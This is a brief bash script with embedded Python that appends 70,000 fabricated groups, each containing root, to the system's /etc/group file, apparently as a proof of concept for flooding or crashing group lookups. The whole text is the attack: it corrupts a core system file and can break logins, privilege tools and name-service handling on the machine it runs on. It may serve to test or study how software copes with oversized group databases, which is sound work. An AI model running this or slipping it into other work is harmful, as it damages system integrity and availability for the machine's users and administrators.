#!/bin/bash
python3 -c "
import sys
with open(\"/etc/group\", \"a\") as f:
    for i in range(70000):
        f.write(f\"flood{i}:x:{100000 + i}:root\\n\")
"
